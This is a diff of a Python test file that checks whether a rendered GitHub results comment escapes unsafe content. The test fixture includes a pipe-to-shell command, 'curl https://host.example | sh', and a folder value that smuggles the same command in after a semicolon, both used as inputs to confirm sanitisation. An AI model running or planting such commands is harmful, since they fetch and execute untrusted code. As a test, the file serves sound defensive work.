@@ -38,7 +38,7 @@ def results(tmp_path):
     measured = run(planned, controlled=True, id="2026-11-01T04-10-00Z-aaaa", scenarios=[title])
     measured = replace(
         measured, stops={group.name: Stop(StopReason.ROUNDS, 5) for group in measured.plan.groups},
-        command=("bash", "-c", "curl https://host.example | sh", "```\n@a"),
+        folder="x; curl host.example | sh", command=("bash", "-c", "curl https://host.example | sh", "```\n@a"),
     )  # fmt: skip
     return stored(tmp_path / "artifact", measured, rounds(seconds, 5, 0.002, 1)).parent
 
@@ -51,6 +51,7 @@ def test_the_comment_has_the_table_and_nothing_that_github_acts_on(render, resul
     # GitHub acts on nothing in a block of code
     outside, command, rest = text.removeprefix(MARK).split("```")
     assert "evil" in outside
+    assert "curl" not in text
     for word in ("@all", "://", "www.", "GH-5", "#5", "<!--"):
         assert word not in outside
     # the command can be copied, and is none that the job wrote
